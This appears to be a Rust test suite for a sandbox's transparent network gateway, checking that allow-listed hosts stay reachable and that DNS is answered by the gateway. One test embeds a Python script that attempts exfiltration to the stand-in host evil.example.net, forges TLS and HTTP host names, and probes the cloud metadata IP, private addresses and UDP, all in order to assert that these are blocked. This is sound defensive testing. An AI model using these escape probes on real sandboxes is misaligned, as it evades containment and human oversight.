//! Programs that know no proxy: they look names up and connect, and find the gateway all the same.

use std::net::UdpSocket;
use std::time::Duration;

use serde_json::{Value, json};

use crate::support::{Ended, Servers, Site, at_every_wall};

fn api(servers: &Servers) -> Value {
    json!({"allow": [
        {"host": "api.example.com", "port": servers.secure},
        {"host": "api.example.com", "scheme": "http", "port": servers.plain},
    ]})
}

#[track_caller]
fn run(site: &Site, servers: &Servers, script: &str) -> Ended {
    let rules = site.write("rules.json", &api(servers).to_string());
    site.run_with(&["--net-transparent", "--net-rules", &rules], script)
}

#[test]
fn a_program_that_knows_no_proxy_reaches_what_is_allowed() {
    at_every_wall(|site, servers| {
        let program = format!(
            "import socket, ssl\n\
             def get(s):\n\
             \x20   s.sendall(b'GET /hello HTTP/1.1\\r\\nHost: api.example.com:%d\\r\\nConnection: close\\r\\n\\r\\n' % s.getpeername()[1])\n\
             \x20   data = b''\n\
             \x20   while part := s.recv(4096): data += part\n\
             \x20   print(data.split()[1].decode(), data.rsplit(b'\\n', 2)[-2].decode())\n\
             get(socket.create_connection(('api.example.com', {plain}), 10))\n\
             s = socket.create_connection(('api.example.com', {secure}), 10)\n\
             get(ssl.create_default_context().wrap_socket(s, server_hostname='api.example.com'))\n",
            plain = servers.plain,
            secure = servers.secure
        );
        let script = format!(
            "unset https_proxy HTTPS_PROXY http_proxy HTTP_PROXY ALL_PROXY all_proxy\n\
             python3 - <<'END'\n{program}END\n\
             curl -sS --noproxy '*' {} && curl -sS --noproxy '*' http://api.example.com:{}/hello\n\
             tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '",
            servers.url("/hello"),
            servers.plain
        );
        let done = run(site, servers, &script).exits(0);
        // No device was needed for it.
        assert_eq!(done.stdout, "200 hello\n200 hello\nhello\nhello\nlo\n", "{done:?}");
        let log = site.net_log();
        let of = |record: &&Value| record["event"]["host"] == "api.example.com";
        assert!(log.iter().filter(of).count() >= 4, "{log:?}");
    });
}

#[test]
fn without_a_proxy_nothing_else_is_reached_either() {
    at_every_wall(|site, servers| {
        let datagrams = UdpSocket::bind("0.0.0.0:0").unwrap();
        datagrams.set_read_timeout(Some(Duration::from_millis(200))).unwrap();
        let udp = datagrams.local_addr().unwrap().port();
        let before = servers.seen();
        let program = format!(
            "import socket, ssl\n\
             def attempt(name, do):\n\
             \x20   try: print(name, 'REACHED', do())\n\
             \x20   except Exception as e: print(name, type(e).__name__)\n\
             def talk(address, tls=None):\n\
             \x20   s = socket.create_connection(address, 5)\n\
             \x20   if tls: s = ssl._create_unverified_context().wrap_socket(s, server_hostname=tls)\n\
             \x20   s.sendall(b'GET /leak HTTP/1.1\\r\\nHost: evil.example.net\\r\\n\\r\\n')\n\
             \x20   said = s.recv(4096)\n\
             \x20   assert said and b' 4' not in said[:12], said\n\
             \x20   return said\n\
             secure, plain = {secure}, {plain}\n\
             attempt('name', lambda: talk(('evil.example.net', secure), 'evil.example.net'))\n\
             attempt('other-name-in-tls', lambda: talk(('api.example.com', secure), 'evil.example.net'))\n\
             attempt('other-name-in-http', lambda: talk(('api.example.com', plain)))\n\
             for ip in ('127.0.0.1', '10.0.0.1', '169.254.169.254', '1.1.1.1', '198.18.0.77'):\n\
             \x20   attempt(ip, lambda: talk((ip, secure), 'api.example.com'))\n\
             \x20   attempt(ip + ':plain', lambda: talk((ip, plain)))\n\
             \x20   attempt(ip + ':25', lambda: talk((ip, 25)))\n\
             attempt('six', lambda: talk(('2001:db8::1', secure)))\n\
             for ip in ('127.0.0.1', '1.1.1.1', '198.18.0.1'):\n\
             \x20   for port in ({udp}, 443, secure):\n\
             \x20       s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.2)\n\
             \x20       s.connect((ip, port))\n\
             \x20       attempt(f'udp {{ip}} {{port}}', lambda: (s.send(b'leak'), s.recv(9)))\n",
            secure = servers.secure,
            plain = servers.plain,
        );
        let done = run(site, servers, &format!("python3 - <<'END'\n{program}END\n")).exits(0);
        assert!(done.stdout.lines().count() > 20, "{done:?}");
        for line in done.stdout.lines() {
            assert!(!line.contains("REACHED"), "{line}\n{done:?}");
        }
        assert_eq!(servers.seen(), before);
        assert!(datagrams.recv(&mut [0; 16]).is_err(), "no datagram came");
        let refused = site.net_log();
        let told = |text: &str| {
            let reason = |record: &Value| record["event"]["reason"].as_str().map(str::to_owned);
            refused.iter().filter_map(reason).any(|reason| reason.contains(text))
        };
        assert!(told("stands for no name"), "{refused:?}");
    });
}

/// A server of names that a program brings itself is answered by the gateway.
#[test]
fn names_are_looked_up_at_the_gateway_whoever_is_asked() {
    at_every_wall(|site, servers| {
        let program = "\
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
for name in (b'api', b'other'):
    query = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0' + bytes([len(name)]) + name + b'\\x07example\\x03com\\0\\0\\x01\\0\\x01'
    s.connect(('8.8.8.8', 53)); s.send(query)
    said = s.recv(512)
    print(said[3] & 15, '.'.join(str(b) for b in said[-4:-2]) if said[3] & 15 == 0 else '-')
";
        let done = run(site, servers, &format!("python3 - <<'END'\n{program}END\n")).exits(0);
        assert_eq!(done.stdout, "0 198.18\n5 -\n", "{done:?}");
    });
}

#[test]
fn ports_of_the_gateway_itself_and_too_many_are_refused() {
    let servers = Servers::start();
    let site = Site::new(crate::support::Wall::Process, &servers);
    let own = site.run_with(&["--net-transparent", "--net", "api.example.com:3128"], "true");
    own.exits(125).holds("port 3128 is the gateway's own");
    let ports: Vec<String> = (9000..9013).map(|port| format!("api.example.com:{port}")).collect();
    let mut flags = vec!["--net-transparent"];
    flags.extend(ports.iter().flat_map(|port| ["--net", port]));
    site.run_with(&flags, "true").exits(125).holds("at most 12");
}
